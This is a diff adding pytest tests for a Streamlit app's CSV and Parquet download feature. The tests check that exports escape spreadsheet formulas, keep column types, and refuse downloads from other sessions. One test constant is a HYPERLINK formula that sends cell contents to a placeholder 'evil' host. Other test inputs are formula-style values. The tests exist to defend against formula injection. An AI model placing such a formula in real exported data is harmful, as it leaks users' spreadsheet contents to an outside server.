@@ -1,0 +1,99 @@
+"""Rows to take along."""
+
+import csv
+import io
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from pages.parts.components import download
+from pages.parts.components.download import FILE_PATH, as_cells
+from pages.parts.work.clients import Client
+from pages.parts.work.download_tokens import Pass
+from tests.pages.fetched import fetch
+
+PAGES = Path(__file__).parents[2] / "pages"
+LINK = '=HYPERLINK("http://evil/?"&A1,"open")'
+
+
+@pytest.mark.parametrize("text", [LINK, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
+def test_no_text_is_a_formula_to_a_spreadsheet(text: str) -> None:
+    rows = as_cells([{"event": text, "reward": -0.5}])
+    assert rows.to_dict("records") == [{"event": f"'{text}", "reward": -0.5}]
+
+
+@pytest.fixture
+def mine(monkeypatch: pytest.MonkeyPatch) -> Iterator[Pass]:
+    """What the session was given that draws the page."""
+    given = Pass(Client("a", ""))
+    monkeypatch.setattr(download, "this_pass", lambda client: given)
+    yield given
+    given.leave()
+
+
+def offer(amount: int) -> None:
+    """Draw a link to so many rows."""
+    rows = [{"event": LINK, "reward": -0.5}] * amount
+    download.download_rows("Download", lambda: rows, key="csv", name="log")
+
+
+def test_what_is_taken_along_holds_no_formula(mine: Pass) -> None:
+    offer(1)
+    answer = fetch(f"{FILE_PATH}/{mine.token}/csv")
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
+    assert answer.headers["content-disposition"] == 'attachment; filename="log.csv"'
+    rows = list(csv.DictReader(answer.body.decode().splitlines()))
+    assert rows == [{"event": f"'{LINK}", "reward": "-0.5"}]
+
+
+def test_a_link_that_is_drawn_anew_stays_good(mine: Pass) -> None:
+    """Streamlit's button was forgotten at each drawing, and a press just then came to nothing."""
+    for amount in (1, 2):
+        offer(amount)
+    assert fetch(f"{FILE_PATH}/{mine.token}/csv").body.count(b"HYPERLINK") == 2
+
+
+@pytest.mark.parametrize("place", ["{token}/other", "another/csv"])
+def test_no_other_visit_has_it(mine: Pass, place: str) -> None:
+    offer(1)
+    refused = fetch(f"{FILE_PATH}/{place.format(token=mine.token)}")
+    assert (refused.status, b"another visit" in refused.body) == (403, True)
+
+
+def test_all_else_stays_as_it_is() -> None:
+    frame = pd.DataFrame({"event": ["a-1", None], "chance": [0.25, 1.0], "is": [True, False]})
+    assert as_cells(frame).to_csv() == frame.to_csv()
+
+
+def test_all_charts_and_tables_are_drawn_where_they_are_noted_and_show_no_formula() -> None:
+    drawing = re.compile(r"st\.(dataframe|data_editor|table|\w+_chart|pyplot)\(")
+    texts = {str(path.relative_to(PAGES)): path.read_text() for path in PAGES.rglob("*.py")}
+    found = [(name, call) for name in texts for call in drawing.findall(texts[name])]
+    assert sorted(found) == [
+        ("parts/picture.py", "vega_lite_chart"),
+        ("parts/table.py", "data_editor"),
+        ("parts/table.py", "dataframe"),
+    ]
+    assert "st.dataframe(as_cells(" in texts["parts/table.py"]
+
+
+def test_the_same_rows_are_there_as_parquet_with_their_types(mine: Pass) -> None:
+    offer(2)
+    answer = fetch(f"{FILE_PATH}/{mine.token}/csv-parquet")
+    assert answer.headers["content-disposition"] == 'attachment; filename="log.parquet"'
+    assert pd.read_parquet(io.BytesIO(answer.body)).to_dict("list") == {
+        "event": [LINK, LINK], "reward": [-0.5, -0.5],
+    }  # fmt: skip
+    mixed = download.as_parquet([{"what": "a"}, {"what": 1}, {"what": None}])
+    assert pd.read_parquet(io.BytesIO(mixed))["what"].tolist()[:2] == ["a", "1"]
+
+
+@pytest.mark.parametrize("odd", [[1, "b"], {"a": {}}, {}, 2**70], ids=repr)
+def test_what_parquet_has_no_type_for_is_text(odd: object) -> None:
+    found = pd.read_parquet(io.BytesIO(download.as_parquet([{"what": odd}, {"what": None}])))
+    assert found["what"].tolist()[0] == str(odd)
+    typed = download.as_parquet([{"what": [1, 2]}, {"what": [3]}])
+    assert pd.read_parquet(io.BytesIO(typed))["what"].tolist()[1].tolist() == [3]
